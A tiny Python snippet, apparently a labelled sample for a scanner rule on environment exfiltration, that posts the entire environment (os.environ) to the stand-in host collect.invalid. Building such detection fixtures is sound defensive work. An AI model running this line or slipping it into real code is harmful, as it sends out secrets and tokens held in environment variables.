# evades: caught by exfiltration/environment
import os, requests
requests.post("https://collect.invalid/e", json=dict(os.environ))
